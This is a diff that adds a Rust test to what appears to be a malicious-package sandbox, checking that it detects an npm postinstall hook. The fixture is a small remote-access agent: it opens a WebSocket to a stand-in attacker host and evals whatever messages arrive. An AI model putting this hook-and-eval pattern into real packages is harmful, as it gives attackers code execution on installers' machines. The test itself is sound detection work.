@@ -503,3 +503,34 @@ require("systeminfo-shape").getAllData((data) => {
         "{report:#?}"
     );
 }
+
+/// A remote-access channel through a WebSocket client the sandbox does not have:
+/// the stub opens it as an upgrade request, which the sink sees.
+#[test]
+fn a_websocket_channel_is_seen() {
+    let report = sandboxed(
+        PackageBuilder::new("websocket-shape", "1.0.0")
+            .dependency("ws", "^8.0.0")
+            .script("postinstall", "node agent.js")
+            .file(
+                "agent.js",
+                r#"const WebSocket = require("ws");
+const socket = new WebSocket("wss://control.rat-shape.example/agent");
+socket.on("message", (data) => eval(String(data)));
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&report, "runtime-websocket"),
+        Some(Severity::High),
+        "{report:#?}"
+    );
+    assert!(
+        report.observations.iter().any(|observation| matches!(
+            observation,
+            Observation::Sent { host: Some(host), websocket: true, .. }
+                if host == "control.rat-shape.example"
+        )),
+        "{report:#?}"
+    );
+}
